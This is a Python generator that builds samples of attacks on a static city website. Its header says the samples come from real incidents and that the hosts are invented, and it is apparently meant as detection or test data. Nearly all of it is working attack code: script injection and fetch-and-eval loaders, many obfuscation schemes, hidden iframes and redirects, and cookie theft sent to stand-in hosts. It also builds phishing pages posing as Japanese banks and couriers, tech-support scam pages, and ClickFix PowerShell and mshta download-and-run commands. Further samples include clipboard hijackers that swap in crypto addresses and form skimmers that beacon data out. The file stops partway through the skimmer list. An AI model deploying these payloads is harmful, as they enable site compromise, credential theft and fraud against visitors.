"""Attacks on a static city site, each as (kind, data): "head", "body", "tail", "attributes" go into a page; "file" is a
file of its own (name, bytes). Written for Akimori from descriptions of real incidents; hosts are invented."""
import base64
import io
import json
import zipfile

HOSTS = ["cdn-static-lib.xyz", "jsstat.top", "analytics-collect.ru", "bstraffic.icu", "stat-counter.click", "web-metrics.buzz"]
PLAIN = ["assets.tomoko-web.com", "js.hikari-net.org", "files.globex-media.net", "img.sunflower-co.biz"]


def b64(text): return base64.b64encode(text.encode()).decode()
def codes(text): return ",".join(str(ord(c)) for c in text)
def hexed(text): return "".join("\\x%02x" % ord(c) for c in text)
def uni(text): return "".join("\\u%04x" % ord(c) for c in text)
def pct(text): return "".join("%%%02X" % ord(c) for c in text)
def entities(text, rng): return "".join(("&#%d;" % ord(c)) if rng.random() < .5 else ("&#x%x;" % ord(c)) for c in text)
def xor(text, key): return [ord(c) ^ key for c in text]


def pack(code):
    """Dean Edwards' packer, as the well-known web page makes it."""
    import re
    words = sorted(set(re.findall(r"\w+", code)), key=lambda w: code.index(w))
    digits = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
    def name(n): return digits[n] if n < 62 else name(n // 62) + digits[n % 62]
    table = {w: name(i) for i, w in enumerate(words)}
    body = re.sub(r"\w+", lambda m: table[m.group()], code).replace("\\", "\\\\").replace("'", "\\'")
    return "eval(function(p,a,c,k,e,d){e=function(c){return(c<a?'':e(parseInt(c/a)))+((c=c%%a)>35?String.fromCharCode(c+29):c.toString(36))};if(!''.replace(/^/,String)){while(c--){d[e(c)]=k[c]||e(c)}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('%s',62,%d,'%s'.split('|'),0,{}))" % (body, len(words), "|".join(words))


def families():
    table = {}

    def family(function):
        table[function.__name__] = function
        return function

    def host(rng): return rng.choice(HOSTS)

    # --- script injection -------------------------------------------------------------------------------------------
    @family
    def script_tag(rng):
        h = host(rng)
        return rng.choice([
            ("head", '<script src="https://%s/a.js"></script>' % h), ("body", "<script src=//%s/jquery.min.php?c=1></script>" % h),
            ("tail", "<SCRIPT/SRC=https://%s/x></SCRIPT>" % h), ("body", '<script\nsrc = "ht\ttps://%s/x.js"></script>' % h),
            ("head", '<script async defer type="module" src="https:\\\\%s\\m.js"></script>' % h),
            ("body", '<script src="&#x68;ttps://%s/x.js"></script>' % h),
            ("head", '<link rel="modulepreload" href="https://%s/m.mjs"><script type="module">import "https://%s/m.mjs";</script>' % (h, h)),
            ("tail", '<script type="text/javascript" src="http://%d.%d.%d.%d:8080/s.js"></script>' % tuple(rng.randint(11, 220) for _ in range(4)))])

    @family
    def script_before_doctype(rng): return "doctype", '<script src="https://%s/l.js"></script><!DOCTYPE html>' % rng.choice(HOSTS + PLAIN)

    @family
    def script_after_html(rng): return "after", '<script src="https://%s/l.js"></script>' % rng.choice(HOSTS + PLAIN)

    @family
    def data_script(rng):
        code = "document.location='https://%s/'" % host(rng)
        return "body", rng.choice(['<script src="data:text/javascript;base64,%s"></script>' % b64(code),
                                   '<script src="data:application/javascript,%s"></script>' % pct(code)])

    @family
    def created_script(rng):
        h = host(rng)
        return "body", rng.choice([
            "<script>var s=document.createElement('script');s.src='https://%s/t.js';document.head.appendChild(s);</script>" % h,
            "<script>(function(d){var e=d['createElement']('scr'+'ipt');e['s'+'rc']='//'+'%s'+'/t.js';d.body['append'+'Child'](e)})(document)</script>" % h,
            "<script>document.write('<scr'+'ipt src=\"https://%s/w.js\"></scr'+'ipt>')</script>" % h,
            "<script>document.writeln(unescape('%s'))</script>" % pct('<script src=https://%s/a.js></script>' % h),
            "<script>setTimeout(function(){var a=document.createElement(\"script\");a.setAttribute(\"src\",\"https://%s/b.js\");document.getElementsByTagName(\"head\")[0].appendChild(a)},3000)</script>" % h,
            "<script>import('https://%s/m.js').then(m=>m.default())</script>" % h,
            "<script>$.getScript('https://%s/g.js');</script>" % h,
            "<script>document.body.insertAdjacentHTML('beforeend','<img src=x onerror=\"var s=document.createElement(`script`);s.src=`https://%s/i.js`;document.head.append(s)\">')</script>" % h])

    @family
    def fetch_and_run(rng):
        h = host(rng)
        return "body", rng.choice([
            "<script>fetch('https://%s/p').then(r=>r.text()).then(t=>eval(t))</script>" % h,
            "<script>var x=new XMLHttpRequest();x.open('GET','https://%s/p',true);x.onload=function(){(0,eval)(x.responseText)};x.send()</script>" % h,
            "<script>fetch('https://%s/p').then(r=>r.text()).then(t=>new Function(t)())</script>" % h,
            "<script>$.get('https://%s/p',function(d){$('body').append(d);eval(d)});</script>" % h,
            "<script>new WebSocket('wss://%s/ws').onmessage=function(e){Function(e.data)()}</script>" % h])

    @family
    def import_map(rng):
        h = host(rng)
        return "head", '<script type="importmap">{"imports":{"jquery":"https://%s/jquery.mjs"}}</script><script type="module">import $ from "jquery";$()</script>' % h

    @family
    def speculation_rules(rng):
        h = host(rng)
        return "head", '<script type="speculationrules">{"prerender":[{"source":"list","urls":["https://%s/landing"]}]}</script>' % h

    @family
    def lookalike_host(rng):
        return "head", '<script src="https://%s/x.js"></script>' % rng.choice([
            "googletagmanagar.com", "google-anaiytics.com", "www.google-analytics.com.gstats.info", "jquery-cdn.org", "code.jqueryy.com",
            "cdnjs.cloudfIare.com".lower(), "www.city-momiji-lg-jp.com", "googleapls.com", "cdn.jsdeiivr.net", "www.youtube.com.video-jp.net", "goоgle.com"])

    @family
    def user_content_script(rng):
        return "body", '<script src="%s"></script>' % rng.choice([
            "https://raw.githack.com/hx9/a/main/a.js", "https://cdn.jsdelivr.net/gh/hx9/a/a.js", "https://pastebin.com/raw/Ab12Cd34",
            "https://cdn.statically.io/gh/hx9/a/main/a.js", "https://gist.githubusercontent.com/hx/1/raw/a.js", "https://abc123.ngrok-free.app/a.js",
            "https://script.google.com/macros/s/AKfy/exec", "https://ipfs.io/ipfs/Qm123/a.js"])

    # --- obfuscation ------------------------------------------------------------------------------------------------
    def payload(rng):
        h = host(rng)
        return rng.choice(["window.location.href='https://%s/go'" % h,
                           "document.write('<script src=\"https://%s/a.js\"></script>')" % h,
                           "var f=document.createElement('iframe');f.src='https://%s/f';f.style.display='none';document.body.appendChild(f)" % h,
                           "var s=document.createElement('script');s.src='https://%s/s.js';document.head.appendChild(s)" % h])

    def scripted(code, rng): return rng.choice(["body", "head", "tail"]), "<script>%s</script>" % code

    @family
    def eval_base64(rng): return scripted(rng.choice(["eval(atob('%s'))", "eval(window.atob(\"%s\"));", "Function(atob('%s'))()", "setTimeout(atob('%s'),500)", "[].constructor.constructor(atob('%s'))()", "window['ev'+'al'](window['at'+'ob']('%s'))"]) % b64(payload(rng)), rng)

    @family
    def eval_charcodes(rng): return scripted(rng.choice(["eval(String.fromCharCode(%s))", "var _=[%s];eval(_.map(c=>String.fromCharCode(c)).join(''))", "eval(String.fromCharCode.apply(null,[%s]))", "var a=[%s],s='';for(var i=0;i<a.length;i++){s+=String.fromCharCode(a[i])}eval(s)"]) % codes(payload(rng)), rng)

    @family
    def eval_hex(rng): return scripted("eval('%s')" % rng.choice([hexed, uni])(payload(rng)), rng)

    @family
    def eval_unescape(rng): return scripted(rng.choice(["eval(unescape('%s'))", "eval(decodeURIComponent('%s'))", "document.write(unescape('%%3Cscript%%3E%s%%3C/script%%3E'))"]) % pct(payload(rng)), rng)

    @family
    def reversed_text(rng): return scripted("eval('%s'.split('').reverse().join(''))" % payload(rng)[::-1].replace("'", '"'), rng)

    @family
    def xor_text(rng):
        k = rng.randint(3, 60)
        return scripted("var d=[%s],o='';for(var i=0;i<d.length;i++)o+=String.fromCharCode(d[i]^%d);eval(o)" % (",".join(map(str, xor(payload(rng), k))), k), rng)

    @family
    def shifted_text(rng):
        k = rng.randint(1, 9)
        return scripted("var t='%s';var r='';for(var i=0;i<t.length;i++){r+=String.fromCharCode(t.charCodeAt(i)-%d)}new Function(r)()" % ("".join(chr(ord(c) + k) for c in payload(rng)).replace("\\", "\\\\").replace("'", "\\'"), k), rng)

    @family
    def rot13_text(rng):
        import codecs
        return scripted("eval('%s'.replace(/[a-zA-Z]/g,function(c){return String.fromCharCode((c<='Z'?90:122)>=(c=c.charCodeAt(0)+13)?c:c-26)}))" % codecs.encode(payload(rng), "rot13").replace("'", '"'), rng)

    @family
    def packed(rng): return scripted(pack(payload(rng)), rng)

    @family
    def nested_layers(rng): return scripted("eval(atob('%s'))" % b64("eval(unescape('%s'))" % pct(payload(rng))), rng)

    @family
    def string_array(rng):
        """As javascript-obfuscator makes it."""
        h = host(rng)
        words = ["createElement", "script", "https://%s/o.js" % h, "src", "head", "appendChild", "async"]
        return scripted("var _0x4f2a=[%s];(function(_0x1b2c3d,_0x4e5f6a){var _0x2c1d3e=function(_0x5a6b7c){while(--_0x5a6b7c){_0x1b2c3d['push'](_0x1b2c3d['shift']());}};_0x2c1d3e(++_0x4e5f6a);}(_0x4f2a,0x0));var _0x3d4e=function(_0x1b2c3d,_0x4e5f6a){_0x1b2c3d=_0x1b2c3d-0x0;var _0x2c1d3e=_0x4f2a[_0x1b2c3d];return _0x2c1d3e;};(function(){var _0x9a8b7c=document[_0x3d4e('0x0')](_0x3d4e('0x1'));_0x9a8b7c[_0x3d4e('0x3')]=_0x3d4e('0x2');_0x9a8b7c[_0x3d4e('0x6')]=!![];document[_0x3d4e('0x4')][_0x3d4e('0x5')](_0x9a8b7c);var _0xaaaa1=1,_0xaaaa2=2,_0xaaaa3=3,_0xaaaa4=4,_0xaaaa5=5;}());" % ",".join("'%s'" % rng.choice([hexed, str])(w) for w in words), rng)

    @family
    def string_array_base64(rng):
        h = host(rng)
        return scripted("(function(){var a=[%s];function g(i){return atob(a[i])}var s=document[g(0)](g(1));s[g(2)]=g(3);document[g(4)][g(5)](s)})();" % ",".join("'%s'" % b64(w) for w in ["createElement", "script", "src", "https://%s/o.js" % h, "head", "appendChild"]), rng)

    @family
    def jsfuck(rng): return scripted("[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]" + "".join(rng.choice(["(![]+[])[+!+[]]+", "(!![]+[])[+[]]+", "([][[]]+[])[+!+[]]+"]) for _ in range(120)) + "[]", rng)

    @family
    def aaencode(rng): return scripted("ﾟωﾟﾉ= /｀ｍ´）ﾉ ~┻━┻   //*´∇｀*/ ['_']; o=(ﾟｰﾟ)  =_=3; c=(ﾟΘﾟ) =(ﾟｰﾟ)-(ﾟｰﾟ); (ﾟДﾟ) =(ﾟΘﾟ)= (o^_^o)/ (o^_^o);(ﾟДﾟ)['c']=1;", rng)

    @family
    def template_and_replace(rng):
        h = host(rng)
        return scripted(rng.choice(["var u='hXXps://%s/r'.replace('XX','tt');location.replace(u)" % h, "var p=['ht','tps:','//','%s','/r'];top.location=p.join('')" % h,
                                    "self['loca'+'tion']['hr'+'ef']=`https://${'%s'}/r`" % h, "var _='%s';window.open('ht'+'tps://'+_,'_self')" % h]), rng)

    @family
    def blanks_before(rng): return "tail", " " * rng.randint(300, 2000) + "<script>%s</script>" % payload(rng)

    @family
    def decoded_markup(rng):
        h = host(rng)
        return scripted(rng.choice(["document.write(atob('%s'))", "document.body.innerHTML+=atob('%s')", "document.getElementsByTagName('div')[0].insertAdjacentHTML('afterend',window.atob('%s'))"]) % b64('<iframe src="https://%s/x" width=1 height=1 style="visibility:hidden"></iframe>' % h), rng)

    @family
    def split_over_attributes(rng):
        h = host(rng)
        return "body", '<span id="k1" data-a="https://" data-b="%s" data-c="/z.js"></span><script>var k=document.getElementById("k1").dataset,s=document.createElement("script");s.src=k.a+k.b+k.c;document.body.appendChild(s)</script>' % h

    @family
    def split_over_events(rng):
        h = host(rng)
        return "body", '<img src="/img/a.gif" onload="window.__u=\'https://%s\'"><img src="/img/b.gif" onload="var s=document.createElement(\'script\');s.src=window.__u+\'/e.js\';document.body.appendChild(s)">' % h

    @family
    def event_code(rng):
        h = host(rng)
        return "body", rng.choice([
            '<img src=x onerror="eval(atob(\'%s\'))">' % b64("location='https://%s'" % h), "<svg onload=\"document.location='https://%s/'\"></svg>" % h,
            "<details open ontoggle=\"fetch('https://%s/?c='+document.cookie)\"></details>" % h, "<video><source onerror=\"import('https://%s/m.js')\"></video>" % h,
            "<input autofocus onfocus=\"location.href='//%s'\">" % h, "<style>@keyframes q{}</style><b style=\"animation-name:q\" onanimationstart=\"top.location='https://%s'\"></b>" % h,
            "<marquee onstart=\"eval(name)\" width=1></marquee>", "<body onpageshow=\"location='https://%s'\">" % h,
            "<iframe src=\"javascript:document.location='https://%s'\"></iframe>" % h, "<object data=\"data:text/html;base64,%s\"></object>" % b64("<script src=https://%s/a.js></script>" % h)])

    @family
    def body_attribute(rng): return "attributes", " onload=\"%s\"" % rng.choice(["location.href='https://%s/'", "document.body.innerHTML='<iframe src=https://%s width=100%% height=100%%>'"]) % host(rng)

    @family
    def javascript_address(rng):
        h = host(rng)
        return "body", rng.choice(['<a href="javascript:eval(atob(\'%s\'))">申込み</a>' % b64("location='https://%s'" % h), '<a href="java&#10;script:fetch(\'https://%s/?\'+document.cookie)">お知らせ</a>' % h,
                                   '<form action="javascript:fetch(\'https://%s/?\'+document.cookie)"><button>次へ</button></form>' % h, '<a href="data:text/html;base64,%s">資料</a>' % b64("<script>alert(1)</script>")])

    @family
    def srcdoc(rng):
        h = host(rng)
        return "body", '<iframe srcdoc="%s" width=0 height=0></iframe>' % entities('<script src="https://%s/s.js"></script>' % h, rng)

    @family
    def template_activated(rng):
        h = host(rng)
        return "body", '<template id="tt"><script src="https://%s/t.js"></script></template><script>document.body.appendChild(document.getElementById("tt").content.cloneNode(true))</script>' % h

    @family
    def conditional_comment(rng): return "head", '<!--[if IE]><script src="https://%s/ie.js"></script><![endif]-->' % host(rng)

    @family
    def noscript_and_textarea(rng): return "body", '<noscript><p title="</noscript><img src=x onerror=eval(atob(\'%s\'))>"></noscript>' % b64("location='https://%s'" % host(rng))

    @family
    def json_ld_abuse(rng):
        h = host(rng)
        return "head", rng.choice(['<script type="application/ld+json">{"@context":"https://schema.org","@type":"WebSite","name":"もみじ市","description":"</script><script src=https://%s/j.js></script>"}</script>' % h,
                                   '<script type="application/ld+json">{"@type":"Product","name":"オンラインカジノ 入金不要ボーナス","offers":{"url":"https://%s/"},"aggregateRating":{"ratingValue":"4.9"}}</script>' % h])

    # --- frames, forms, redirects -----------------------------------------------------------------------------------
    @family
    def hidden_frame(rng):
        h = rng.choice(HOSTS + PLAIN)
        return "body", rng.choice([
            '<iframe src="https://%s/" width="1" height="1" frameborder="0"></iframe>', '<iframe src="https://%s/" style="display:none"></iframe>',
            '<iframe src="https://%s/" style="position:absolute;left:-5000px;top:-5000px"></iframe>', '<iframe src="https://%s/" style="visibility:hidden;height:0"></iframe>',
            '<div style="overflow:hidden;width:0;height:0"><iframe src="https://%s/"></iframe></div>', '<div style="opacity:0;position:absolute"><iframe src="https://%s/"></iframe></div>',
            '<style>.qz{position:fixed;top:-999em}</style><div class="qz"><iframe src="https://%s/"></iframe></div>', '<iframe hidden src="https://%s/"></iframe>',
            '<div style="transform:scale(0)"><iframe src="https://%s/"></iframe></div>', '<div style="clip-path:inset(100%%)"><iframe src="https://%s/"></iframe></div>',
            '<object data="https://%s/" type="text/html" width="0" height="0"></object>', '<embed src="https://%s/" width="1" height="1">',
            '<div style="height:1px;width:1px;overflow:hidden;"><iframe src="https://%s/" width="300"></iframe></div>', '<iframe src="https://%s/" style="filter:alpha(opacity=0);opacity:0;"></iframe>',
            '<ul style="text-indent:-9999px"><li><iframe src="https://%s/"></iframe></ul>', '<div style="max-height:0;overflow:hidden"><iframe src="https://%s/"></iframe></div>',
            '<iframe src="https://%s/" style="margin-left:-3000px"></iframe>', '<iframe src="https://%s/" style="pointer-events:none;z-index:-1;opacity:.01;position:absolute"></iframe>',
            '<div style="font-size:0;line-height:0;height:0;overflow:hidden"><iframe src="https://%s/"></iframe></div>', '<iframe src="https://%s/" width="0%%" height="0%%"></iframe>',
            '<style>#zz9{width:0;height:0;border:0}</style><iframe id="zz9" src="https://%s/"></iframe>', '<style>body>div.h8 iframe{display:none}</style><div class=h8><iframe src="https://%s/"></iframe></div>'
        ]) % h

    @family
    def created_frame(rng):
        h = host(rng)
        return scripted(rng.choice(["var i=document.createElement('iframe');i.src='https://%s/';i.width=i.height=0;document.body.appendChild(i)", "document.write('<iframe src=https://%s/ style=display:none></iframe>')",
                                    "$('body').append('<iframe src=\"https://%s/\" width=\"1\" height=\"1\">')", "var f=document.createElement('iframe');f.setAttribute('src','https://%s/');f.setAttribute('style','display:none');document.body.append(f)"]) % h, rng)

    @family
    def overlay(rng):
        h = host(rng)
        return "body", rng.choice(['<div style="position:fixed;top:0;left:0;width:100%%;height:100%%;z-index:99999"><iframe src="https://%s/" style="width:100%%;height:100%%;border:0"></iframe></div>',
                                   '<a href="https://%s/" style="position:fixed;inset:0;z-index:2147483647;opacity:0"></a>', '<iframe src="https://%s/" style="position:fixed;top:0;left:0;bottom:0;right:0;width:100vw;height:100vh;border:none;z-index:999999"></iframe>',
                                   '<style>#ov{position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999}</style><div id="ov"><iframe src="https://%s/" width="100%%" height="100%%"></iframe></div>']) % h

    @family
    def foreign_form(rng):
        h = rng.choice(HOSTS + PLAIN)
        return "body", rng.choice([
            '<form action="https://%s/save" method="post">お名前<input name="name">メール<input type="email" name="mail"><input type="submit"></form>',
            '<form action="/cgi-bin/form.cgi" method="post"><input name="name"><input type="email" name="m"><button formaction="https://%s/x">送信</button></form>',
            '<form id="f1" method="post"><input name="tel" type="tel"><textarea name="q"></textarea><input type="submit"></form><script>document.getElementById("f1").action="https://%s/p.php";</script>',
            '<form method="post" action="//%s/p.php"><input type="text" name="cardno" placeholder="カード番号"><input name="cvv"><input type=submit></form>',
            '<form action="https://%s/login.php" method="post"><input name="id"><input type="password" name="pw"><input type="submit" value="ログイン"></form>',
            '<input form="ff" name="mail" type="email"><form id="ff" method="POST" action="https://%s/c"></form>']) % h

    @family
    def redirect(rng):
        h = rng.choice(HOSTS + PLAIN)
        return rng.choice([("head", '<meta http-equiv="refresh" content="0;url=https://%s/">' % h), ("head", '<META HTTP-EQUIV="Refresh" CONTENT="1; URL=\'//%s/\'">' % h), ("body", '<meta http-equiv=refresh content="0,https://%s/">' % h),
                           ("head", "<script>location.href='https://%s/'</script>" % h), ("body", "<script>top.location.replace('https://%s/')</script>" % h), ("head", "<script>window.location.assign('//%s/')</script>" % h),
                           ("body", "<script>setTimeout(function(){document.location='https://%s/'},1500)</script>" % h), ("body", "<script>window.onload=function(){window.location='https://%s/'}</script>" % h),
                           ("head", '<noscript><meta http-equiv="refresh" content="0; url=https://%s/"></noscript>' % h), ("body", "<script>history.replaceState(null,'','/');document.open();document.write('<meta http-equiv=refresh content=\"0;url=https://%s/\">')</script>" % h),
                           ("body", "<script>document.querySelector('a').href='https://%s/';document.querySelector('a').click()</script>" % h), ("body", "<script>navigation.navigate('https://%s/')</script>" % h)])

    @family
    def conditional_redirect(rng):
        h = host(rng)
        return scripted(rng.choice([
            "if(/google|yahoo|bing/.test(document.referrer)){location.href='https://%s/'}", "if(navigator.userAgent.match(/iPhone|Android/i)){window.location='https://%s/m'}",
            "if(document.cookie.indexOf('v=1')<0){document.cookie='v=1;max-age=86400';location='https://%s/'}", "if(!localStorage.getItem('s')){localStorage.setItem('s',1);window.location.replace('https://%s/')}",
            "if(new Date().getHours()>20&&document.referrer){top.location='https://%s/'}", "if(navigator.language=='ja'&&!document.cookie.match(/adm=/)){self.location='https://%s/'}",
            "var r=document.referrer;if(r.indexOf('google')!=-1||r.indexOf('yahoo')!=-1){var m=document.createElement('meta');m.httpEquiv='refresh';m.content='0;url=https://%s/';document.head.appendChild(m)}",
            "document.addEventListener('click',function(){window.open('https://%s/','_blank')},{once:true})", "window.addEventListener('popstate',function(){location='https://%s/back'});history.pushState({},'','#')"]) % h, rng)

    @family
    def base_and_canonical(rng):
        h = rng.choice(HOSTS + PLAIN)
        return "head", rng.choice(['<base href="https://%s/">' % h, "<base target=_top href='//%s/x/'>" % h])

    @family
    def canonical(rng): return "canonical", rng.choice(HOSTS + PLAIN)

    @family
    def service_worker(rng):
        h = host(rng)
        return rng.choice([("file", ("sw.js", ("importScripts('https://%s/sw.js');" % h).encode())), ("body", "<script>navigator.serviceWorker.register('/sw.js').then(function(r){return r.pushManager.subscribe({userVisibleOnly:true})}).then(function(s){fetch('https://%s/sub',{method:'POST',body:JSON.stringify(s)})})</script>" % h),
                           ("file", ("push-sw.js", ("self.addEventListener('push',function(e){e.waitUntil(self.registration.showNotification('当選',{data:'https://%s/'}))});self.addEventListener('notificationclick',function(e){clients.openWindow('https://%s/')});" % (h, h)).encode()))])

    @family
    def push_spam(rng): return scripted("Notification.requestPermission().then(function(p){if(p!='granted'){location.href='https://%s/allow'}else{fetch('https://%s/t')}})" % (host(rng), host(rng)), rng)

    # --- spam -------------------------------------------------------------------------------------------------------
    WORDS = [["オンラインカジノ おすすめ", "ブックメーカー 出金", "バカラ 必勝法"], ["スーパーコピー 時計", "ロレックス コピー", "n級品 バッグ"], ["バイアグラ 通販", "シアリス 個人輸入", "ed治療薬 最安値"],
             ["cheap viagra online", "buy cialis", "payday loan"], ["slot gacor hari ini", "situs slot online", "togel"], ["出会い系 無料", "アダルト 動画", "無修正"], ["闇金 即日融資", "審査なし", "現金化"]]

    @family
    def hidden_links(rng):
        words = rng.choice(WORDS)
        links = "".join('<a href="https://%s/%d">%s</a>' % (rng.choice(["kasino-", "replica-", "med-", "deai-"]) + rng.choice(["jp.com", "best.net", "shop.org"]), i, rng.choice(words)) for i in range(rng.randint(3, 12)))
        return rng.choice(["body", "tail"]), rng.choice([
            '<div style="display:none">%s</div>', '<div style="position:absolute;left:-9999px">%s</div>', '<div style="height:0;overflow:hidden">%s</div>', '<p style="font-size:0">%s</p>', '<marquee width="1" height="1">%s</marquee>',
            '<div style="color:#fff;background:#fff">%s</div>', '<style>.a9{position:absolute;top:-4000px}</style><div class="a9">%s</div>', '<div style="opacity:0">%s</div>', '<div style="text-indent:-3000px">%s</div>',
            '<span style="visibility:hidden">%s</span>', '<div style="font-size:1px;line-height:1px">%s</div>', '<div id="x8">%s</div><script>document.getElementById("x8").style.display="none"</script>',
            '<div style="width:1px;height:1px;overflow:hidden">%s</div>', '<div style="clip:rect(0 0 0 0);position:absolute">%s</div>', '<div style="transform:translateX(-9999px)">%s</div>', '<div hidden>%s</div>', '<noscript>%s</noscript>'
        ]) % links

    @family
    def visible_links(rng):
        words = rng.choice(WORDS)
        return "tail", "<div>" + " ".join('<a href="https://%s.com/">%s</a>' % (rng.choice(["kasino-jp", "copytokei", "kusuri-x", "deai-n"]), w) for w in words) + "</div>"

    @family
    def doorway_page(rng):
        words = rng.choice(WORDS[:3] + WORDS[5:])
        h = rng.choice(HOSTS + PLAIN)
        return "file", ("item/%06d.html" % rng.randint(1, 999999), ("<html lang=ja><head><meta charset=utf-8><title>%s 【激安】送料無料 人気 通販</title><meta name=keywords content='%s'><meta name=description content='%s 正規品 最安値 即納 海外通販'></head><body><h1>%s</h1><p>%s が最安値。ポイント10倍。</p><a href='https://%s/buy'>カートに入れる</a></body></html>" % (words[0], ",".join(words), words[1], words[0], "、".join(words), h)).encode())

    @family
    def shop_keyword_hack(rng):
        brand = rng.choice(["シャネル 財布 新品", "グッチ バッグ アウトレット", "ダイソン 掃除機 激安", "任天堂 スイッチ 本体 セール", "ヨネックス ラケット 人気"])
        h = rng.choice(HOSTS + PLAIN)
        return "file", ("%s/%d.html" % (rng.choice(["goods", "shopping", "p"]), rng.randint(1000, 99999)), ("<!DOCTYPE html><html lang='ja'><head><meta charset='utf-8'><title>%s 送料無料 格安 通販 公式ショップ</title><meta name='description' content='%s 新品 在庫あり 即納 激安 楽天市場 ヤフオク'><link rel='canonical' href='https://%s/a'></head><body><h1>%s</h1><div>価格 ¥12,800 ¥3,980 送料無料</div><script src='https://%s/j.js'></script></body></html>" % (brand, brand, h, brand, h)).encode())

    @family
    def title_replaced(rng): return "title", rng.choice(["オンラインカジノおすすめランキング 入金不要ボーナス", "スーパーコピー時計 n級品 激安通販専門店", "バイアグラ通販 最安値", "Slot Gacor Gampang Menang Situs Slot Online"])

    @family
    def defacement(rng): return rng.choice([("file", ("x.html", b"<html><head><title>Hacked By Mr.Zer0</title></head><body bgcolor=black><center><h1><font color=red>HACKED BY Mr.Zer0</font></h1><p>Greetz: all cyber army</p></center></body></html>")),
                                            ("body", "<h1>Hacked by X-Team</h1><p>Your security is 0. We are legion. Expect us.</p>"), ("file", ("readme.txt", b"Hacked by XxTeam - greetz to all defacer - your security is low")), ("title", "Hacked by Anon70 | Cyber Army")])

    # --- fraud pages ------------------------------------------------------------------------------------------------
    @family
    def support_scam(rng):
        tel = rng.choice(["050-5050-1234", "(050) 3198-7654", "0101-805-555-1234", "03-4578-1234"])
        return "file", ("%s.html" % rng.choice(["alert", "win", "defender", "index2"]), ("<html lang=ja><head><meta charset=utf-8><title>Windows セキュリティ センター</title></head><body onbeforeunload='return 1'><audio autoplay loop src='beep.mp3'></audio><h1>Windows Defender セキュリティ警告</h1><p>お使いのパソコンはトロイの木馬スパイウェアに感染しています。エラーコード 0x80092ee9。電源を切らないでください。</p><p>今すぐ電話 マイクロソフト サポート %s</p><script>%s</script></body></html>" % (tel, rng.choice(["document.documentElement.requestFullscreen();navigator.keyboard.lock();", "document.onclick=function(){document.body.requestFullscreen()};window.onbeforeunload=function(){return false};document.oncontextmenu=function(){return false}", "for(var i=0;i<50;i++){history.pushState({},'',i)}setInterval(function(){alert('ウイルスに感染')},900)"]))).encode())

    @family
    def phishing_bank(rng):
        brand = rng.choice(["三井住友銀行", "三菱UFJ銀行", "ゆうちょ銀行", "楽天カード", "Amazon", "PayPay", "えきねっと", "国税庁 e-Tax", "マイナポータル", "NHK", "イオンカード", "ETC利用照会サービス"])
        fields = rng.choice(["<input name=id><input type=password name=pw>", "<input name=cardnumber placeholder='カード番号'><input name=cvc placeholder='セキュリティコード'>", "<input name=kouza placeholder='口座番号'><input type=password name=pin placeholder='暗証番号'>"])
        action = rng.choice(["https://%s/p.php" % host(rng), "post.php", "https://api.telegram.org/bot1:AA/sendMessage", "next.php"])
        return "file", ("%s/index.html" % rng.choice(["login", "smbc", "secure", "auth", "jp"]), ("<!DOCTYPE html><html lang=ja><head><meta charset=utf-8><title>%s ログイン</title></head><body><h1>%s</h1><p>お客様のアカウントの確認が必要です。</p><form method=post action='%s'>%s<button>次へ</button></form></body></html>" % (brand, brand, action, fields)).encode())

    @family
    def phishing_parcel(rng):
        brand = rng.choice(["佐川急便", "ヤマト運輸", "日本郵便"])
        return "file", ("%s/track.html" % rng.choice(["sagawa", "post", "jp"]), ("<html lang=ja><meta charset=utf-8><title>%s 再配達のお申し込み</title><h1>%s</h1><p>お荷物をお届けしましたが不在のため持ち帰りました。住所の確認が必要です。</p><form action='https://%s/c.php' method=post>お名前<input name=name>住所<input name=address>電話<input name=tel>カード番号<input name=cardno><input type=submit value='確認する'></form>" % (brand, brand, host(rng))).encode())

    @family
    def phishing_script(rng):
        return "file", ("verify.html", ("<html lang=ja><meta charset=utf-8><title>アカウントの確認 Microsoft</title><body><script>document.write(unescape('%s'))</script></body></html>" % pct("<form action=https://%s/x.php method=post>mail<input name=m type=email><input type=password name=p><input type=submit></form>" % host(rng))).encode())

    @family
    def click_fix(rng):
        cmd = rng.choice(["powershell -w hidden -c iex(iwr https://%s/a.ps1)", "mshta https://%s/v.hta", "cmd /c curl https://%s/a.bat -o %%TEMP%%/a.bat && %%TEMP%%/a.bat", "conhost --headless powershell iwr %s/x | iex"]) % host(rng)
        text = rng.choice(["<p>ロボットではありません</p><ol><li>Windowsキー + R を押します</li><li>Ctrl + V で貼り付けます</li><li>Enter を押します</li></ol>", "<p>Verify you are human</p><p>Press Win+R, then Ctrl+V and Enter</p>", "<p>ページを表示できません。修正するには「ファイル名を指定して実行」を開き、貼り付けてください。認証が完了します。</p>"])
        return "body", text + "<button id=cf>認証する</button><script>document.getElementById('cf').onclick=function(){%s}</script>" % rng.choice(["navigator.clipboard.writeText('%s')" % cmd.replace("\\", "\\\\"), "var t=document.createElement('textarea');t.value=atob('%s');document.body.append(t);t.select();document.execCommand('copy')" % b64(cmd)])

    @family
    def clipboard_hijack(rng):
        return scripted(rng.choice(["document.addEventListener('copy',function(e){e.clipboardData.setData('text/plain','bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh');e.preventDefault()})", "document.addEventListener('copy',function(e){e.clipboardData.setData('text/plain',e.clipboardData.getData('text').replace(/0x[a-fA-F0-9]{40}/,'0x71C7656EC7ab88b098defB751B7401B5f6d8976F'));e.preventDefault()})",
                                    "document.oncopy=function(e){e.clipboardData.setData('text/plain','powershell -enc SQBFAFgA');return false}"]), rng)

    @family
    def fake_update(rng): return "body", "<div style='position:fixed;inset:0;z-index:99999;background:#fff'><h2>Google Chromeを更新してください</h2><p>お使いのブラウザは古いバージョンです。</p><a href='%s' download>更新プログラムをダウンロード</a></div>" % rng.choice(["https://%s/ChromeSetup.exe" % host(rng), "https://%s/update.zip" % host(rng), "/files/Chrome_update.js"])

    @family
    def skimmer(rng):
        h = host(rng)
        return rng.choice([
            ("body", "<script>document.forms[0].addEventListener('submit',function(){navigator.sendBeacon('https://%s/c',new FormData(this))})</script>" % h),
            ("body", "<script>document.addEventListener('change',function(e){new Image().src='https://%s/i.gif?d='+btoa(e.target.name+'='+e.target.value)})</script>" % h),
